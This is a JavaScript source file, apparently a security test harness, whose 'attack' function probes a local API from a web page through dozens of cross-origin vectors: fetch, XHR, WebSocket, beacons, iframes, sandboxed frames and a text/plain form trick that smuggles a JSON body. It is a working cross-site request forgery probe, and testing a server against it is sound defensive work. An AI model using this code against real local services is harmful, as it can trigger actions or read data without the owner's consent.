/** Runs in the page: tries everything a page can send, and returns what it could read. */
export async function attack({ url: base, body }) {
  const read = [];
  const attempts = [];
  const attempt = (what, work) => {
    attempts.push(
      work().then(
        (text) => text !== undefined && read.push(`${what}: ${text}`),
        () => undefined,
      ),
    );
  };
  const element = (tag, attributes) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.addEventListener('load', () => resolve(undefined));
      made.addEventListener('error', () => resolve(undefined));
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      setTimeout(() => resolve(undefined), 600);
    });

  for (const path of ['/v1/messages', '/v1/files', '/api/chat', '/api/admin/status', '/api/health']) {
    const url = base + path;
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
      for (const mode of ['cors', 'no-cors']) {
        attempt(`fetch POST ${mode} ${type} ${path}`, async () => {
          const headers = { 'content-type': type };
          const answer = await fetch(url, { method: 'POST', mode, headers, body });
          const text = await answer.text();
          return answer.type === 'opaque' && text === '' ? undefined : `${answer.status} ${text}`;
        });
      }
    }
    attempt(`fetch with credentials ${path}`, async () =>
      (await fetch(url, { method: 'POST', credentials: 'include', body, keepalive: true })).text(),
    );
    attempt(`fetch with headers ${path}`, async () =>
      (
        await fetch(url, { method: 'POST', headers: { 'x-api-key': 'k', 'x-tulay-key': 'primary' }, body })
      ).text(),
    );
    attempt(`fetch DELETE ${path}`, async () => (await fetch(url, { method: 'DELETE' })).text());
    attempt(`fetch GET ${path}`, async () => (await fetch(url)).text());
    attempt(`XMLHttpRequest ${path}`, () => {
      return new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.addEventListener('loadend', () => resolve(request.responseText || undefined));
        request.open('POST', url);
        request.send(body);
      });
    });
    attempt(`EventSource ${path}`, () => {
      return new Promise((resolve) => {
        const source = new EventSource(url);
        source.addEventListener('open', () => resolve('opened'));
        source.addEventListener('error', () => {
          source.close();
          resolve(undefined);
        });
      });
    });
    attempt(`WebSocket ${path}`, () => {
      return new Promise((resolve) => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.addEventListener('open', () => resolve('opened'));
        socket.addEventListener('error', () => resolve(undefined));
      });
    });
    navigator.sendBeacon(url, body);
    navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }));
    for (const tag of ['img', 'script', 'video', 'audio', 'embed']) {
      attempt(`<${tag}> ${path}`, () => element(tag, { src: url }));
    }
    for (const rel of ['stylesheet', 'prefetch', 'preload', 'manifest']) {
      attempt(`<link rel=${rel}> ${path}`, () => element('link', { rel, href: url, as: 'script' }));
    }
    attempt(`<object> ${path}`, () => element('object', { data: url }));
    attempt(`<iframe> ${path}`, async () => {
      const frame = document.createElement('iframe');
      frame.src = url;
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        setTimeout(resolve, 600);
      });
      // Null where the frame's document is of another origin, as its error page is too.
      return frame.contentDocument?.body.textContent || undefined;
    });
    for (const [enctype, method] of [
      ['text/plain', 'POST'],
      ['multipart/form-data', 'POST'],
      ['application/x-www-form-urlencoded', 'POST'],
      ['application/x-www-form-urlencoded', 'GET'],
    ]) {
      const target = `frame-${Math.random()}`;
      const frame = document.createElement('iframe');
      frame.name = target;
      const form = document.createElement('form');
      Object.assign(form, { action: url, method, enctype, target });
      const field = document.createElement('textarea');
      // Reads as JSON with text/plain: the name, “=”, the value.
      field.name = `${body.slice(0, -1)},"x":"`;
      field.value = '"}';
      form.append(field);
      document.body.append(frame, form);
      form.submit();
    }
    // Frames without an origin of their own.
    const script = `<script>fetch(${JSON.stringify(url)},{method:'POST',body:${JSON.stringify(body)}}).then(a=>a.text()).then(t=>parent.postMessage(t,'*'),()=>0)</script>`;
    addEventListener('message', (event) => read.push(`sandboxed frame ${path}: ${String(event.data)}`));
    attempt('sandboxed frame', () => element('iframe', { sandbox: 'allow-scripts', srcdoc: script }));
    attempt('data: frame', () => element('iframe', { src: `data:text/html,${encodeURIComponent(script)}` }));
  }
  // A browser under load may leave one of so many hanging; what was read until then counts.
  await Promise.race([Promise.all(attempts), new Promise((resolve) => setTimeout(resolve, 10_000))]);
  await new Promise((resolve) => setTimeout(resolve, 300));
  return read;
}
